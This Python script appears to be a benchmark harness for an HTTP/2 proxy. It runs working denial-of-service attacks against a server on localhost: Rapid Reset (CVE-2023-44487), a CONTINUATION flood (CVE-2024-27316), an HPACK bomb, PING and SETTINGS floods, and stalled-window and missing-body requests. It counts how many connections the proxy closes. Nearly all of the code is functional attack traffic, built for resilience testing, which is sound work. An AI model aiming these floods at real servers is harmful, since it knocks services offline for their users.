#!/usr/bin/env python3
"""HTTP/2 attackers for bench/scripts/h2-attacks.sh: each opens cleartext
prior-knowledge connections to 127.0.0.1:PORT in a loop for SECONDS and
runs one attack on each; prints how many connections the proxy closed.

  rapid         HEADERS + RST_STREAM in a loop (CVE-2023-44487)
  continuation  a header block that never ends (CVE-2024-27316)
  hpack         one 4 KiB field indexed, then referenced 1000 times
  ping          PING flood, never reading the answers
  settings      SETTINGS flood, never reading the answers
  zerowindow    a request with a window of 0, never opened
  nobody        a POST that promises a body and never sends it
Usage: h2attack.py ATTACK PORT SECONDS [PATH] [CONNECTIONS_PER_SECOND=20]
A new connection starts at most CONNECTIONS_PER_SECOND times a second
(0: as fast as the attacker can), each running its attack to the end.
"""
import socket, struct, sys, threading, time

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

def hint(first, n, v):
    m = (1 << n) - 1
    if v < m:
        return bytes([first | v])
    out = [first | m]; v -= m
    while v >= 128:
        out.append(v % 128 | 0x80); v //= 128
    return bytes(out + [v])

def lit(name, value, indexed=False):
    return bytes([0x40 if indexed else 0]) + hint(0, 7, len(name)) + name + hint(0, 7, len(value)) + value

def block(method=b"GET", path=b"/", extra=()):
    b = lit(b":method", method) + lit(b":scheme", b"http") + lit(b":authority", b"attack") + lit(b":path", path)
    for n, v in extra:
        b += lit(n, v)
    return b

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

def connect(port, settings=b""):
    s = socket.create_connection(("127.0.0.1", port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(PREFACE + frame(4, 0, 0, settings))
    return s

def drain(s, limit):
    s.settimeout(limit)
    end = time.time() + limit
    try:
        while time.time() < end:
            if not s.recv(65536):
                return True
    except (socket.timeout, ConnectionError):
        return False
    return False

BURSTS = {}

def burst_for(kind, path):
    """The attack's bytes, built once: the attacker's own CPU is not what
    is being measured (it shares a core with the legitimate client)."""
    if kind not in BURSTS:
        if kind == "rapid":
            b = b"".join(frame(1, 5, 1 + 2 * i, block(path=path)) + frame(3, 0, 1 + 2 * i, struct.pack(">I", 8)) for i in range(1000))
        elif kind == "continuation":
            b = frame(1, 1, 1, block(path=path)) + b"".join(frame(9, 0, 1, lit(b"x-f%d" % i, b"v")) for i in range(5000))
        elif kind == "hpack":
            b = frame(1, 5, 1, block(path=path) + lit(b"x-bomb", b"a" * 4000, True) + bytes([0x80 | 62]) * 1000)
        else:
            sys.exit(f"unknown attack {kind}")
        BURSTS[kind] = b
    return BURSTS[kind]

def attack(kind, port, path):
    if kind in ("ping", "settings"):
        s = connect(port)
        one = frame(6, 0, 0, b"\0" * 8) if kind == "ping" else frame(4, 0, 0)
        try:
            for _ in range(1000):
                s.sendall(one * 100)
            return drain(s, 10)
        except ConnectionError:
            return True
        finally:
            s.close()
    if kind == "zerowindow":
        s = connect(port, struct.pack(">HI", 4, 0))
        s.sendall(frame(1, 5, 1, block(path=path)))
    elif kind == "nobody":
        s = connect(port)
        s.sendall(frame(1, 4, 1, block(b"POST", path, [(b"content-length", b"100")])))
    else:
        burst = burst_for(kind, path)
        s = connect(port)
        try:
            s.sendall(burst)
        except ConnectionError:
            return True
    try:
        return drain(s, 15)
    finally:
        s.close()

def main():
    kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    path = (sys.argv[4] if len(sys.argv) > 4 else "/").encode()
    rate = float(sys.argv[5]) if len(sys.argv) > 5 else 20.0
    start = time.time()
    end = start + seconds
    results = []
    def one():
        results.append(bool(attack(kind, port, path)))
    threads = []
    n = 0
    while time.time() < end:
        if rate > 0:
            due = start + n / rate
            if due > time.time():
                time.sleep(due - time.time())
        n += 1
        t = threading.Thread(target=one, daemon=True)
        t.start()
        threads.append(t)
        if rate <= 0:
            t.join()
    for t in threads:
        t.join(20)
    print(f"{kind}: {n} connections, {sum(results)} closed by the proxy")

main()
